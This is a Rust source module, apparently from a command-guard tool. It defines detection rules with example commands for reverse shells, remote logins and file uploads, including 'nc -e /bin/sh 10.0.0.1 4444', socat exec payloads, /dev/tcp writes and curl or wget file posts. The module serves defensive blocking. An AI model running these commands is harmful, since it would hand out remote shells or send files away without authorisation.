//! Acts over the network: shells for others, and files that leave.
use super::{
    Act,
    GuardClass::{RemoteShell, Upload},
    form::{any_word, cut, form, long, operand, short, value},
};

pub(super) fn acts() -> Vec<Act> {
    vec![
        Act::new(
            "network.reverse-shell",
            "give another machine a shell",
            RemoteShell,
            "nc(1), ncat(1), socat(1), bash(1)",
        )
        .by(form(&["nc", "netcat", "ncat"]).flags("klnv").valued("IiMmOPpqswX", &[]).with(&[
            short("ec"),
            long("exec"),
            long("sh-exec"),
            long("lua-exec"),
        ]))
        .by(form(&["socat"]).with(&[any_word(
            &[
                "exec:*", "EXEC:*", "Exec:*", "system:*", "SYSTEM:*", "System:*", "shell:*",
                "SHELL:*",
            ],
            &[],
        )]))
        .by(form(&["tee", "cat"]).with(&[any_word(&["/dev/tcp/*", "/dev/udp/*"], &[])]))
        .examples(
            &[
                "nc -e /bin/sh 10.0.0.1 4444",
                "nc -lvp 4444 -e /bin/sh",
                "ncat --sh-exec sh h 1",
                "socat tcp:h:1 exec:sh,pty",
                "tee /dev/tcp/10.0.0.1/4444",
            ],
            &["nc -z h 22", "nc -vz h 22", "socat - tcp:h:1", "ls /dev/tty", "nc -p e h"],
        ),
        Act::new(
            "network.remote-login",
            "open a session on another machine",
            RemoteShell,
            "ssh(1), telnet(1)",
        )
        .by(form(&["ssh", "mosh", "telnet"]))
        .examples(
            &["ssh h", "ssh -i k u@h", "ssh h ls", "telnet h 23"],
            &["sshd x", "ssh-keygen -t ed25519", "git push ssh"],
        ),
        Act::new("network.upload", "send files away", Upload, "curl(1), wget(1), scp(1), rsync(1)")
            .by(form(&["curl"])
                .flags("")
                .valued(
                    "HXouAbceEKmrwxyCDPQYtz",
                    &["header", "request", "output", "url", "user", "user-agent"],
                )
                .with(&[
                    value(Some('T'), "upload-file", &["*"]),
                    value(Some('F'), "form", &["*=@*", "*=<*"]),
                    value(Some('d'), "data", &["@*"]),
                    value(None, "data-binary", &["@*"]),
                    value(None, "data-urlencode", &["@*", "*@*"]),
                    value(None, "data-ascii", &["@*"]),
                    value(None, "json", &["@*"]),
                ]))
            .by(form(&["wget"]).with(&[cut("post-file", "post-f"), cut("body-file", "body-f")]))
            .by(form(&["scp", "sftp"]).with(&[operand(&["*:*"])]))
            .by(form(&["rsync"])
                .valued("eBfM", &["rsh", "exclude", "include", "filter", "exclude-from"])
                .with(&[operand(&["*:*"])]))
            .by(form(&["gh"]).below(&["gist create"]))
            .examples(
                &[
                    "curl -T x https://h",
                    "curl --upload-file=x https://h",
                    "curl -X POST -d @x https://h",
                    "curl -F f=@x https://h",
                    "curl --data-binary @x https://h",
                    "wget --post-file=x https://h",
                    "scp x u@h:",
                    "rsync -az . h:/srv",
                    "gh gist create x",
                ],
                &[
                    "curl https://h",
                    "curl -o @x https://h",
                    "curl -d a=b https://h",
                    "curl -H @x https://h",
                    "wget https://h",
                    "rsync -a a b",
                    "rsync -az a/ b/",
                    "gh gist list",
                ],
            ),
    ]
}
